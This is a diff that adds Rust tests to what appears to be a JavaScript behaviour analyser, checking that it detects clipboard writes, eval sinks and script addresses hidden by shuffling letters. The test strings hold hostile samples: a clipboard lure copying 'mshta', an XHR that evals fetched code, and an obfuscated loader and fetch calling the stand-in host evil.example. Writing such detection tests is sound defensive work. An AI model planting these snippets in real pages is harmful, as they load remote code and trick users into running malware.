@@ -327,3 +327,32 @@ fn long_runs_are_found_where_they_are() {
         assert_eq!(super::string::find(&units(text), &units(wanted)), text.find(wanted), "{wanted} in {text}");
     }
 }
+
+#[test]
+fn what_a_script_knows_of_itself_is_known() {
+    let own = "var s=document.getElementsByTagName('script');document.write('='+s[s.length-1].innerHTML.length)";
+    assert_eq!(written(own), format!("={}", own.len()));
+    let copied = "var a=document.createElement('textarea');a.value='ms'+'hta';a.select();document.execCommand('copy')";
+    let found = run(copied).expect("a record").actions;
+    assert!(found.iter().any(|action| action.sink == Sink::Clipboard && action.target == "mshta"), "{found:?}");
+    let sent = "var x=new XMLHttpRequest();x.onload=function(){eval(x.responseText)};x.open('GET','/a');x.send()";
+    let found = run(sent).expect("a record").actions;
+    assert!(found.iter().any(|action| action.sink == Sink::Eval && action.target == "…"), "{found:?}");
+}
+
+#[test]
+fn an_address_of_letters_in_another_order_is_hidden() {
+    let address = "https://evil.example/in";
+    let mut mixed = vec![' '; address.len()];
+    address.chars().enumerate().for_each(|(at, letter)| mixed[(3 + at * 7) % address.len()] = letter);
+    let mixed: String = mixed.into_iter().collect();
+    let script = format!(
+        "function c(n,e,i){{for(var t=e%n.length,r='';r.length<n.length;t=(t+i)%n.length)r+=n.charAt(t);return r}}\
+         var s=document.createElement('script');s.src=c('{mixed}',3,7);document.head.appendChild(s)"
+    );
+    let found = run(&script).expect("a record");
+    assert_eq!(found.elements[0].markup, format!("<script src=\"{address}\"></script>"));
+    assert!(found.signs.iter().any(|(sign, _)| *sign == crate::model::ScriptSign::HiddenAddress), "{:?}", found.signs);
+    let clear = run("var h='https://evil.example/in',r='';for(var i=0;i<h.length;i++)r+=h.charAt(i);fetch(r)");
+    assert!(clear.expect("a record").signs.is_empty());
+}
